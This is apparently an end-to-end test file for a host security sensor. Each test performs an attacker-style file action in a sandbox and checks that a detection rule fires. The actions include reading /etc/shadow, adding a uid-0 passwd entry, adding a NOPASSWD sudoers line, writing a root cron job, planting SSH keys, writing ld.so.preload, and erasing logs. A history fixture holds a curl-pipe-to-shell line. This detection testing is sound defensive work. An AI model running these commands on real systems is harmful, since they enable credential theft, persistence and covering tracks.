"""Built-in rules on files, triggered for real under the live sensor (root), each in its own cgroup.

Writes to system locations (/etc, /usr/local/bin, /proc/sys/kernel) happen in a private mount namespace with a
tmpfs over the directory (sensor_harness.in_private_mounts), so no real system file is ever changed; reads of real
files (/etc/shadow) are fine. Table of rule -> test: live_rules_table.py."""
import os
import shutil
import subprocess
import unittest

from sensor_harness import LiveSensor, echoed_pid, in_private_mounts, skip_unless_root, which


@skip_unless_root()
class LiveFileRules(unittest.TestCase):
    def test_credential_file_read(self):
        cat = which("cat")
        with LiveSensor(self) as s:
            p = s.run([cat, "/etc/shadow"], stdout=subprocess.DEVNULL)
            s.stop()
        (d,) = s.expect("Credential file read by an unexpected process", pid=p.pid, exe=cat,
                        cmdline="cat /etc/shadow")
        self.assertEqual(d["event"]["type"], "open")
        self.assertEqual(d["event"]["path"], "/etc/shadow")

    def test_ci_runner_secret_read(self):
        cat = which("cat")
        with LiveSensor(self) as s:
            secret = s.path("actions-runner", ".credentials")
            os.makedirs(os.path.dirname(secret))
            with open(secret, "w") as f:
                f.write('{"scheme": "OAuth"}\n')
            p = s.run([cat, secret])
            s.stop()
        (d,) = s.expect("CI runner secret file read", pid=p.pid, exe=cat, cmdline=f"cat {secret}")
        self.assertEqual(d["event"]["path"], secret)

    def test_write_to_ld_so_preload(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/etc"], "echo $$ && echo /nonexistent/libhook.so > /etc/ld.so.preload"))
            s.stop()
        pid = echoed_pid(p)
        (d,) = s.expect("Write to ld.so.preload", pid=pid, exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], "/etc/ld.so.preload")

    def test_kernel_hook_file_written(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/proc/sys/kernel"],
                                        "echo $$ && echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern"))
            s.stop()
        pid = echoed_pid(p)
        (d,) = s.expect("Kernel hook file written", pid=pid, exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], "/proc/sys/kernel/core_pattern")

    def test_new_setuid_binary(self):
        chmod = which("chmod")
        with LiveSensor(self) as s:
            target = s.path("helper")
            shutil.copy("/bin/true", target)
            p = s.run([chmod, "4755", target])
            s.stop()
        (d,) = s.expect("New setuid binary", pid=p.pid, exe=chmod, cmdline=f"chmod 4755 {target}", event_type="chmod")
        self.assertEqual(d["event"]["path"], target)
        self.assertEqual(d["event"]["mode"] & 0o7777, 0o4755)

    def test_write_below_binary_directory(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/usr/local/bin"],
                                        "echo $$ && echo '#!/bin/sh' > /usr/local/bin/vigil-e2e-dropped"))
            s.stop()
        (d,) = s.expect("Write below a binary directory", pid=echoed_pid(p), exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], "/usr/local/bin/vigil-e2e-dropped")

    def test_ssh_authorized_keys_modified(self):
        with LiveSensor(self) as s:
            keys = s.path("home", "eve", ".ssh", "authorized_keys")
            os.makedirs(os.path.dirname(keys))
            p = s.run(["/bin/sh", "-c", f"echo $$; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA eve' >> {keys}"])
            s.stop()
        (d,) = s.expect("SSH authorized_keys modified", pid=echoed_pid(p), exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], keys)

    def test_cron_job_written(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/etc"], "echo $$ && echo '* * * * * root /tmp/x' > /etc/crontab"))
            s.stop()
        (d,) = s.expect("Cron job written", pid=echoed_pid(p), exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], "/etc/crontab")

    def test_systemd_unit_written(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/etc"], "mkdir -p /etc/systemd/system && echo $$ && "
                                                  "echo '[Service]' > /etc/systemd/system/vigil-e2e.service"))
            s.stop()
        (d,) = s.expect("Systemd unit written", pid=echoed_pid(p), exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], "/etc/systemd/system/vigil-e2e.service")

    def test_sudoers_modified(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/etc"], "echo $$ && echo 'eve ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"))
            s.stop()
        (d,) = s.expect("Sudoers modified", pid=echoed_pid(p), exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], "/etc/sudoers")

    def test_account_database_modified(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/etc"], "echo $$ && echo 'eve:x:0:0::/root:/bin/sh' >> /etc/passwd"))
            s.stop()
        (d,) = s.expect("Account database modified", pid=echoed_pid(p), exe="/bin/sh", event_type="open")
        self.assertEqual(d["event"]["path"], "/etc/passwd")

    def test_shell_history_erased(self):
        rm = which("rm")
        with LiveSensor(self) as s:
            history = s.path("home", "eve", ".bash_history")
            os.makedirs(os.path.dirname(history))
            with open(history, "w") as f:
                f.write("curl http://198.51.100.7/x | sh\n")
            p = s.run([rm, "-f", history])
            s.stop()
        (d,) = s.expect("Logs or shell history erased", pid=p.pid, exe=rm, cmdline=f"rm -f {history}",
                        event_type="unlink")
        self.assertEqual(d["event"]["path"], history)

    def test_log_file_truncated(self):
        with LiveSensor(self) as s:
            p = s.run(in_private_mounts(["/var/log"],
                                        "echo old > /var/log/auth.log && echo $$ && : > /var/log/auth.log"))
            s.stop()
        found = s.expect("Logs or shell history erased", pid=echoed_pid(p), exe="/bin/sh", event_type="open")
        self.assertIn("/var/log/auth.log", [d["event"]["path"] for d in found])


if __name__ == "__main__":
    unittest.main()
